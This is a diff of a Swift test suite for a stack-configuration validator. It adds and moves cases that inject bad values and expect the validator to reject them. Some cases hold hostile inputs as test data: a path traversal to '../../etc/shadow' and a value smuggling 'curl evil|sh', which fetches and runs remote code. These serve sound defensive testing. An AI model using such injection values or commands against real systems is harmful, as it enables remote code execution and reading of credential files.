@@ -25,10 +25,16 @@ struct ShippedStackValidationTests {
              code: 2, message: "'interface_endpoints': '' does not match"),
         Case(edit: ("allowed_cidrs: [\"10.0.0.0/8\"],", "allowed_cidrs: [\"10.0.0.0/8\"], endpoint_service_prefix: \"com/../evil.\","),
              code: 2, message: "'endpoint_service_prefix': 'com/../evil.' does not match"),
-        Case(edit: ("accelerator: \"cpu\",", "accelerator: \"cpu\", model_key: \"../../etc/shadow\","), code: 2,
+        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_key: \"../../etc/shadow\","), code: 2,
              message: "'model_key': '../../etc/shadow' does not match"),
-        Case(edit: ("accelerator: \"cpu\",", "accelerator: \"cpu\", server_key: \"x; curl evil|sh\","), code: 2,
+        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, server_key: \"x; curl evil|sh\","), code: 2,
              message: "'server_key': 'x; curl evil|sh' does not match"),
+        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"artifacts/absent.gguf\","), code: 2,
+             message: "storage.model: source 'artifacts/absent.gguf': cannot read"),
+        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, model_source: \"artifacts\","), code: 2,
+             message: "storage.model: source 'artifacts': "),
+        Case(edit: ("audit_retention_days: 2557,", "audit_retention_days: 2557, keys_source: \"artifacts/empty.json\","), code: 2,
+             message: "storage.api_keys: source 'artifacts/empty.json' ("),
         Case(edit: ("accelerator: \"cpu\",", "accelerator: \"cpu\", instance_type: \"c7i.2xlarg\","), code: 2,
              message: "instance type 'c7i.2xlarg' is not in the price catalog; did you mean 'c7i.2xlarge'?"),
         Case(edit: ("allowed_cidrs: [\"10.0.0.0/8\"]", "allowed_cidrs: [\"10.0.0.0/8\", \"0.0.0.0/0\"]"), code: 0,
@@ -41,6 +47,7 @@ struct ShippedStackValidationTests {
         defer { try? FileManager.default.removeItem(at: directory) }
         let text = try String(contentsOfFile: stack, encoding: .utf8)
         #expect(text.contains(test.edit.0))
+        FileManager.default.createFile(atPath: directory.appendingPathComponent("Stacks/artifacts/empty.json").path, contents: Data())
         try text.replacingOccurrences(of: test.edit.0, with: test.edit.1).write(toFile: stack, atomically: true, encoding: .utf8)
         let (code, output) = await CommandLineTests().run(["validate", "--stack", stack])
         #expect(code == test.code, "\(output.stderr)")
